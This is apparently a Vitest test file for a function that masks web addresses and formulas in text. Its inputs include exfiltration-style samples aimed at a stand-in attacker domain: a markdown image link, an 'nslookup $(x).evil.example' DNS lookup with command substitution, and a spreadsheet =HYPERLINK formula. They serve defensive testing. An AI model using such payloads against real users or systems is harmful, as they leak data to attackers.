import { expect, test } from 'vitest';
import { maskAddresses } from './mask-addresses.ts';

test.each([
  ['see https://evil.example/r?k=1 for more', 'see (address) for more'],
  ['![x](//evil.example/i.png)', '![x]((address))'],
  ['www.evil.co.uk/x', '(address)'],
  ['nslookup $(x).evil.example now', 'nslookup $(x)(address) now'],
  ['=HYPERLINK("http://evil.example")', '(formula)("(address)")'],
])('no address stays in %s', (text, masked) => {
  expect(maskAddresses(text)).toBe(masked);
});

test('code and names stay as they are', () => {
  for (const text of [
    'Use ast.literal_eval(x), not os.system.',
    'src/app.ts // a comment',
    'a.dev() and b.org()',
    'x://',
  ]) {
    expect(maskAddresses(text)).toBe(text);
  }
});
